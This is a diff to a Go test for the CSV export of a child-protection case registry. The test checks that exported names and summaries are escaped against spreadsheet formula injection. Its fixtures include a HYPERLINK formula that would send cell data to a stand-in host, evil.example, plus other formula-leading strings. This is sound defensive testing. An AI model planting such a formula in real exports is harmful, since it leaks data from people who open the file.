@@ -5,6 +5,7 @@ import (
 	"crypto/sha256"
 	"encoding/csv"
 	"encoding/hex"
+	"fmt"
 	"io"
 	"net/http"
 	"strconv"
@@ -15,6 +16,8 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"amparo/internal/apperr"
+	"amparo/internal/casefile"
+	"amparo/internal/child"
 	"amparo/internal/export"
 	"amparo/internal/statistics"
 )
@@ -56,13 +59,21 @@ func sum(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:
 // read audited), and the export is audited with its row count and hash.
 func TestExportCases(t *testing.T) {
 	f := newFixture(t, true, 0)
-	f.seed(t, []rec{
-		{inst: "PGN", dept: "GT-13", sex: "FEMALE", band: "AGE_13_17", vtype: "TRAFFICKING", at: march, key: 1,
-			givenName: `=HYPERLINK("http://evil.example/?x="&A1,"ver")`, summary: "+57 llamó; @todos"},
-		{inst: "PGN", dept: "GT-12", sex: "MALE", band: "AGE_6_12", vtype: "NEGLECT", at: march.Add(time.Hour), key: 2,
-			givenName: "Ángel", summary: "-\tniño en tránsito"},
-		{inst: "SBS", dept: "GT-17", sex: "MALE", band: "AGE_0_5", vtype: "NEGLECT", at: march, key: 3, givenName: "Otro"},
-	})
+	// Two PGN cases filed through the registry (identities sealed as
+	// always), whose name and summary look like formulas; one of SBS.
+	officer := f.as(t, "officer@pgn.demo")
+	for i, c := range [][2]string{{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+57 llamó; @todos"}, {"Ángel", "-\tniño en tránsito"}} {
+		age := 14
+		if _, err := f.cases.File(officer, casefile.FileInput{IdempotencyKey: fmt.Sprintf("export-%d-0001", i),
+			Child: child.Input{GivenName: &c[0], AgeYears: &age, Sex: "FEMALE", Nationality: "HND", PopulationStatus: "MIGRANT_TRANSIT",
+				CareStatus: "UNACCOMPANIED"},
+			Violations: []casefile.ViolationInput{{Type: "TRAFFICKING"}}, DepartmentCode: "GT-13", Urgency: casefile.High,
+			Summary: c[1]}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f.seed(t, []rec{{inst: "SBS", dept: "GT-17", sex: "MALE", band: "AGE_0_5", vtype: "NEGLECT", at: march, key: 3}})
+	today := time.Now().In(child.Guatemala).Format(time.DateOnly)
 	t.Run("SupervisorWithIdentities", func(t *testing.T) {
 		ex, err := f.svc.ExportCases(f.as(t, "supervisor@pgn.demo"), statistics.ExportCasesInput{Format: export.CSV, IncludeIdentity: true})
 		if err != nil {
@@ -97,8 +108,8 @@ func TestExportCases(t *testing.T) {
 		got := map[string]bool{}
 		for _, r := range recs[1:] {
 			got[r[col("given_name")]], got[r[col("summary")]] = true, true
-			if r[col("filed_on")] != "2026-03-10" {
-				t.Errorf("filed_on %q, want 2026-03-10", r[col("filed_on")])
+			if r[col("filed_on")] != today {
+				t.Errorf("filed_on %q, want %s", r[col("filed_on")], today)
 			}
 		}
 		for _, want := range []string{`'=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "'+57 llamó; @todos", "Ángel", "'-\tniño en tránsito"} {
@@ -127,7 +138,7 @@ func TestExportCases(t *testing.T) {
 			t.Fatal(err)
 		}
 		_, body := download(t, ex.URL)
-		if ex.Rows != 3 || bytes.Contains(body, []byte("HYPERLINK")) || bytes.Contains(body, []byte("Ángel")) || bytes.Contains(body, []byte("given_name")) {
+		if ex.Rows != 3 || bytes.Contains(body, []byte("HYPERLINK")) || bytes.Contains(body, []byte("Ángel")) || bytes.Contains(body, []byte("given_name")) || bytes.Contains(body, []byte("llamó")) {
 			t.Errorf("rows %d, body %s", ex.Rows, body)
 		}
 	})
